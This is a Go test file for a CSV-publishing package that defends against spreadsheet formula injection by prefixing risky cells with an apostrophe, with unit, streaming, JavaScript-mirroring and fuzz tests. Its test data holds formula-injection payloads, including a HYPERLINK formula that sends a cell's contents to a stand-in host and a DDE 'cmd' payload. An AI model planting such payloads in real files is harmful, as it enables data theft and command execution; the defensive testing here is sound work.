package dataset

import (
	"bytes"
	"io"
	"os"
	"regexp"
	"strings"
	"testing"
)

func TestNeutralizeCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"-", "'-"},
		{"- sin dato", "'- sin dato"},
		{"\ufeff=1", "'\ufeff=1"},
		{"-3.5", "-3.5"},
		{"+1.234,5", "+1.234,5"},
		{"-12 %", "-12 %"},
		{"-1 234,5", "-1 234,5"},
		{"-.5", "-.5"},
		{"3-2", "3-2"},
		{"Medellín", "Medellín"},
		{"", ""},
		{"a=1", "a=1"},
	}
	for _, tt := range tests {
		if got := NeutralizeCell(tt.in); got != tt.want {
			t.Errorf("NeutralizeCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestNeutralizeCSV(t *testing.T) {
	clean := []byte("pais;monto;nota\r\nCO;-3,5;\"texto; con punto y coma\"\r\n")
	if got := NeutralizeCSV(clean, 0); &got[0] != &clean[0] {
		t.Errorf("a CSV without formulas must be published as it is, got %q", got)
	}
	tests := []struct {
		name  string
		delim rune
		in    string
		want  string
	}{
		{"cells", 0, "pais,monto,nota\nCO,-3.5,\"=HYPERLINK(\"\"http://evil.example/\"\",\"\"x\"\")\"\n",
			"pais,monto,nota\nCO,-3.5,\"'=HYPERLINK(\"\"http://evil.example/\"\",\"\"x\"\")\"\n"},
		{"header", ';', "=cmd;@b;-c\r\n1;2;-3\r\n", "'=cmd;'@b;'-c\n1;2;-3\n"},
		{"tab separated", '\t', "a\tb\n+1+1\t-1\n", "a\tb\n'+1+1\t-1\n"},
		{"sniffed semicolons", 0, "a;b\n@x;1,5\n", "a;b\n'@x;1,5\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := string(NeutralizeCSV([]byte(tt.in), tt.delim)); got != tt.want {
				t.Errorf("got  %q\nwant %q", got, tt.want)
			}
			open := func() (io.ReadCloser, error) { return io.NopCloser(strings.NewReader(tt.in)), nil }
			rc, err := NeutralizeOpen(open, tt.delim)()
			if err != nil {
				t.Fatal(err)
			}
			got, err := io.ReadAll(rc)
			rc.Close()
			if err != nil || string(got) != tt.want {
				t.Errorf("streamed: got %q (%v)\nwant %q", got, err, tt.want)
			}
		})
	}
	// A large clean file streams through as it is.
	big := bytes.Repeat([]byte("CO;-3,5;texto\n"), 100000)
	rc, _ := NeutralizeOpen(func() (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(big)), nil }, ';')()
	if got, _ := io.ReadAll(rc); !bytes.Equal(got, big) {
		t.Error("clean stream changed")
	}
}

func TestTableDownload(t *testing.T) {
	schema := "title = \"x\"\ndelimiter = \";\"\n[[columns]]\nname = \"nota\"\ntype = \"text\"\n[[columns]]\nname = \"v\"\ntype = \"number\"\ndecimal = \",\"\n"
	schema = strings.Replace(schema, "decimal = \",\"\n", "", 1)
	tb, l := loadString(schema, "nota;v\n=1+1;-3.5\nbien;2\n")
	if len(l) > 0 {
		t.Fatal(l)
	}
	if got := string(tb.Download()); got != "nota;v\n'=1+1;-3.5\nbien;2\n" {
		t.Errorf("download %q", got)
	}
	if tb.Col("nota").Str[0] != "=1+1" {
		t.Error("the table keeps the cell as written; only the download is neutralised")
	}
}

// TestJSMirrorsRule checks that csvCell in tablero.js, which writes the
// chart's CSV download in the browser, applies IsFormula's rule: its two
// regular expressions are run here (JavaScript's \uXXXX written as Go's
// \x{XXXX}) over cells that IsFormula accepts and refuses.
func TestJSMirrorsRule(t *testing.T) {
	js, err := os.ReadFile("../../themes/default/assets/tablero.js")
	if err != nil {
		t.Fatal(err)
	}
	m := regexp.MustCompile(`if \(/(.+?)/\.test\(s\) \|\| \(/(.+?)/\.test\(s\) && !/(.+?)/\.test\(s\)\)\) s = "'" \+ s;`).FindSubmatch(js)
	if m == nil {
		t.Fatal("csvCell's neutralising line not found in tablero.js")
	}
	var res [3]*regexp.Regexp
	for i := range res {
		res[i] = regexp.MustCompile(regexp.MustCompile(`\\u([0-9a-fA-F]{4})`).ReplaceAllString(string(m[i+1]), `\x{$1}`))
	}
	for _, c := range []string{"=1", "@a", "\t1", "\r1", "+1+1", "-2+3", "-", "- a", "\ufeff=1", "\ufeff-1",
		"-3.5", "+1.234,5", "-12 %", "-.5", "-1 234,5", "-%", "3-2", "a", "", "Medellín", "-1e5", "+"} {
		js := res[0].MatchString(c) || res[1].MatchString(c) && !res[2].MatchString(c)
		if js != IsFormula(c) {
			t.Errorf("%q: tablero.js says formula=%v, IsFormula says %v", c, js, IsFormula(c))
		}
	}
}

// FuzzNeutralizeCSV checks on any CSV that the published copy holds the
// same cells, each either as written or behind one apostrophe, and none a
// formula; and that a copy without formulas is the original bytes.
func FuzzNeutralizeCSV(f *testing.F) {
	f.Add([]byte("a,b\n=1,-3.5\n"), byte(','))
	f.Add([]byte("a;b\r\n\"@x\";\"-2+3\"\r\n"), byte(';'))
	f.Add([]byte("a\tb\n\t1\t+1\n"), byte('\t'))
	f.Fuzz(func(t *testing.T, data []byte, d byte) {
		delim := rune(d)
		if delim != ',' && delim != ';' && delim != '\t' {
			delim = ','
		}
		in := readAll(data, delim)
		out := NeutralizeCSV(data, delim)
		if !anyFormula(in) && len(data) > 0 && &out[0] == &data[0] {
			return // nothing to neutralise: the original bytes
		}
		got := readAll(out, delim)
		if len(got) != len(in) {
			t.Fatalf("%d records, want %d:\n%q\n%q", len(got), len(in), data, out)
		}
		for i := range in {
			if len(got[i]) != len(in[i]) {
				t.Fatalf("record %d: %q, want %q", i, got[i], in[i])
			}
			for j, c := range in[i] {
				// encoding/csv reads a quoted CR LF as LF: a cell read as
				// "\r\n" (from "\r\r\n") is written as CR LF, as RFC 4180
				// keeps it, and read back as "\n".
				c = strings.ReplaceAll(c, "\r\n", "\n")
				if g := got[i][j]; g != c && g != "'"+c || IsFormula(g) {
					t.Errorf("cell %q published as %q", c, g)
				}
			}
		}
	})
}

// readAll reads a CSV as NeutralizeCSV does, or nil for what it cannot
// read.
func readAll(data []byte, delim rune) [][]string {
	cr, done := csvReader(bytes.NewReader(data), delim)
	defer done()
	cr.ReuseRecord = false
	var recs [][]string
	for {
		rec, err := cr.Read()
		if err == io.EOF {
			return recs
		}
		if err != nil {
			return nil
		}
		if len(rec) == 1 && rec[0] == "" {
			continue // a blank row, which is not published
		}
		recs = append(recs, rec)
	}
}

func anyFormula(recs [][]string) bool {
	for _, r := range recs {
		for _, c := range r {
			if IsFormula(c) {
				return true
			}
		}
	}
	return false
}
